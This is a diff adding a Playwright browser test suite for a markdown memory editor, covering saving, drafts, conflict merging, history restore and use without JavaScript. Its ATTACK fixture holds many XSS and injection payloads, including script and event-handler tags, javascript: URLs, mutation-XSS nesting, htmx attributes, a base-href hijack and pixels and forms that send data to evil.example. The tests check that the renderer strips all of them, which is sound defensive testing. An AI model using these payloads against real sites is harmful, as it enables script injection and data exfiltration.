@@ -1,0 +1,188 @@
+"""Memory in a browser: edit, preview, conflict, restore and drafts, with and without JavaScript; attacks in markdown."""
+
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Dialog, Page
+
+from memory import editing
+from memory.models import Revision, digest
+from memory.places import user_place
+from tests.browser.conftest import Watched
+
+NOW = datetime(2026, 11, 23, 9, tzinfo=UTC)
+BASE = "# now\n\nfirst\n\nsecond\n"
+EDIT = "/memory/user/edit/"
+ATTACK = """# <script>alert(1)</script> [x](javascript:alert(1)) heading
+
+<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><animate onbegin=alert(1)></svg>
+[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>
+
+![pixel](https://evil.example/?q=secret) <img src="https://evil.example/p.png">
+<style>body{background:url(https://evil.example/c.png)}</style><p style="background:url(https://evil.example/d)">x</p>
+<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>
+<b hx-get="https://evil.example/" hx-trigger="load" data-hx-on:click="alert(1)" hx-vals="js:alert(1)">x</b>
+<div sse-connect="https://evil.example/" hx-swap-oob="true" id="memory-text" name="text">x</div>
+<form action="https://evil.example/"><input name="csrfmiddlewaretoken"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
+<link rel="prefetch" href="https://evil.example/"><iframe srcdoc="<script>alert(1)</script>"></iframe>
+<a href="https://evil.example/" ping="https://evil.example/p" id="memory-form">x</a></textarea><script>alert(1)</script>
+{{ 7|add:7 }} {% now "Y" %}
+"""
+
+
+def main_file() -> Path:
+    return user_place().base / user_place().file
+
+
+def saved(text: str, base: str | None = None) -> None:
+    """Save ``text`` as the user's main file, on top of ``base``."""
+    before = "" if base is None else digest(base.encode())
+    editing.save(user_place(), "", text, base=before, by="somebody", now=NOW)
+
+
+def field(page: Page):
+    return page.locator("#memory-text")
+
+
+def test_edit_save_and_it_is_on_the_disk(watched_page):
+    saved(BASE)
+    watched_page.goto(EDIT)
+    field(watched_page).fill(BASE + "\n## more\n\nwords *here*\n")
+    watched_page.locator("#memory-preview em").get_by_text("here").wait_for()
+    field(watched_page).press("Control+s")
+    watched_page.locator(".message").get_by_text("Saved.").wait_for()
+    assert main_file().read_text() == BASE + "\n## more\n\nwords *here*\n"
+
+
+def test_the_outline_leads_to_the_line(watched_page):
+    saved("# now\n\n" + "words and words\n\n" * 200 + "# last\n")
+    watched_page.goto(EDIT)
+    watched_page.locator("#memory-outline summary").click()
+    watched_page.locator("#memory-outline").get_by_text("last").click()
+    chosen = "(box) => [box.value.slice(box.selectionStart, box.selectionEnd), box.scrollTop > 1000]"
+    assert field(watched_page).evaluate(chosen) == ["# last", True]
+
+
+def test_tab_leads_out_of_the_text(watched_page):
+    watched_page.goto(EDIT)
+    field(watched_page).press("Tab")
+    assert watched_page.evaluate("document.activeElement.id") != "memory-text"
+
+
+def test_a_draft_is_kept_until_it_is_saved(signed_in):
+    saved(BASE)
+    page = signed_in.new_page()
+    asked = []
+    page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
+    page.goto(EDIT)
+    field(page).press_sequentially("typed ")
+    page.goto("/memory/user/")
+    assert asked == ["beforeunload"]
+    page.goto(EDIT)
+    page.get_by_role("button", name="Take it").click()
+    assert field(page).input_value() == "typed " + BASE
+    page.get_by_role("button", name="Save").click()
+    page.locator(".message").get_by_text("Saved.").wait_for()
+    assert page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('halo-draft'))") == []
+    assert asked == ["beforeunload"]
+
+
+def test_an_old_draft_never_overwrites_what_came_later(signed_in):
+    saved(BASE)
+    page = signed_in.new_page()
+    page.on("dialog", Dialog.accept)
+    page.goto(EDIT)
+    field(page).press_sequentially("typed ")
+    page.goto("/memory/user/")
+    saved(BASE + "newer\n", BASE)
+    page.goto(EDIT)
+    page.get_by_role("button", name="Take it").click()
+    page.get_by_role("button", name="Save").click()
+    page.get_by_role("heading", name="moved on while you wrote").wait_for()
+    assert main_file().read_text() == BASE + "newer\n"
+
+
+def test_signing_out_forgets_drafts(signed_in):
+    page = signed_in.new_page()
+    page.on("dialog", Dialog.accept)
+    page.goto(EDIT)
+    field(page).press_sequentially("private")
+    page.locator(".account summary").click()
+    page.get_by_role("button", name="Sign out").click()
+    page.wait_for_url("**/login/")
+    assert page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('halo-draft'))") == []
+
+
+def test_a_conflict_is_decided_place_by_place(signed_in):
+    saved(BASE)
+    page = signed_in.new_page()
+    page.goto(EDIT)
+    field(page).fill(BASE.replace("first", "mine").replace("second", "second of mine"))
+    theirs = BASE.replace("first", "theirs")
+    saved(theirs, BASE)
+    page.get_by_role("button", name="Save").click()
+    page.get_by_role("button", name="Both", exact=True).click()
+    page.get_by_role("button", name="Save what is put together").click()
+    page.locator(".message").get_by_text("Saved, with what both").wait_for()
+    assert main_file().read_text() == "# now\n\nmine\ntheirs\n\nsecond of mine\n"
+    assert page.locator("[data-draft-offer]").is_hidden()
+
+
+def test_an_earlier_text_is_restored(watched_page):
+    saved(BASE)
+    saved("worse\n", BASE)
+    watched_page.goto("/memory/user/history/")
+    watched_page.locator("tbody tr").nth(1).get_by_role("link").first.click()
+    watched_page.get_by_role("button", name="Restore this").click()
+    watched_page.locator(".message").get_by_text("Restored.").wait_for()
+    assert main_file().read_text() == BASE
+
+
+def test_the_same_without_javascript(plain_page):
+    saved(BASE)
+    page = plain_page
+    page.goto(EDIT)
+    field(page).fill(BASE.replace("first", "# mine"))
+    page.get_by_role("button", name="Preview").click()
+    assert page.locator("#memory-preview h1").get_by_text("mine").is_visible()
+    saved(BASE.replace("second", "theirs"), BASE)
+    page.get_by_role("button", name="Save").click()
+    page.get_by_role("button", name="Save what is put together").click()
+    assert main_file().read_text() == "# now\n\n# mine\n\ntheirs\n"
+    page.get_by_role("link", name="History").click()
+    page.locator("tbody tr").last.get_by_role("link").first.click()
+    page.get_by_role("button", name="Restore this").click()
+    assert main_file().read_text() == BASE
+
+
+def test_no_markdown_attack_reaches_the_browser(watched_page):
+    saved(BASE)
+    saved(ATTACK, BASE)
+    newest = Revision.objects.latest("id").pk
+    addresses = ("", "edit/", "history/", f"history/{newest}/", f"history/{newest}/?with=now", "blame/")
+    for address in addresses:
+        watched_page.goto(f"/memory/user/{address}", wait_until="networkidle")
+        assert watched_page.locator("#main :is(script, iframe, style, base, meta, img)").count() == 0, address
+    watched_page.goto(EDIT)
+    field(watched_page).fill(ATTACK + "\n\ntyped")
+    watched_page.locator("#memory-preview").get_by_text("typed").wait_for()
+    assert watched_page.locator("#memory-preview :is(form, input, [hx-get], [style], [id^=memory-t])").count() == 0
+
+
+@pytest.mark.parametrize("theirs", [ATTACK, BASE])
+def test_no_attack_reaches_the_browser_by_a_conflict(signed_in, theirs):
+    saved(BASE)
+    watched = Watched(signed_in)
+    page = signed_in.new_page()
+    page.goto(EDIT)
+    field(page).fill(ATTACK.replace("heading", "mine"))
+    saved(theirs.replace("heading", "theirs") + "more", BASE)
+    page.get_by_role("button", name="Save").click()
+    page.get_by_role("heading", name="moved on while you wrote").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert page.locator("#main :is(script, iframe, style, base, meta, img)").count() == 0
+    refused = [problem for problem in watched.problems if "409" not in problem]
+    assert refused == []
